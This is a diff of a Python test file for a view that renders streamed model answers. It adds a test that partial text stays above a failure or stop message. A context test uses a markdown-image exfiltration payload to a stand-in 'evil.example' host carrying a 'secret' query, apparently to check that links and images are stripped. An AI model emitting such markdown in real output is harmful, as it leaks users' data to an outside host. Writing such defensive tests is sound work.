@@ -84,6 +84,17 @@ def test_a_failure_says_that_the_others_are_not_affected() -> None:
     assert view.text(now, COLUMN) == ("The model server is not running. The others are not affected. Press Again.")
 
 
+def test_what_had_been_written_stays_above_what_broke_it_off() -> None:
+    gone = Failed(text="The model server does not answer", next_step="Press Again.")
+    failed = standing(Delta(text="Within *14*"), gone)
+    assert view.status(failed, 109.0) == "✕ Broke off in the middle"
+    said = "The model server does not answer. The others are not affected. Press Again."
+    assert view.text(failed, COLUMN) == f"Within *14*\n\n{said}"
+    ended = standing(Delta(text="Within"), Stopped(why="The studio was ended in the middle of this answer."))
+    assert view.status(ended, 109.0) == "✕ Broke off in the middle"
+    assert view.text(ended, COLUMN) == "Within\n\nThe studio was ended in the middle of this answer. Press Again."
+
+
 def test_a_model_can_neither_link_nor_show_pictures() -> None:
     now = standing(Finished(text="![x](http://evil.example/?q=secret)", seconds=1, tokens=1))
     assert "](http" not in view.text(now, COLUMN)
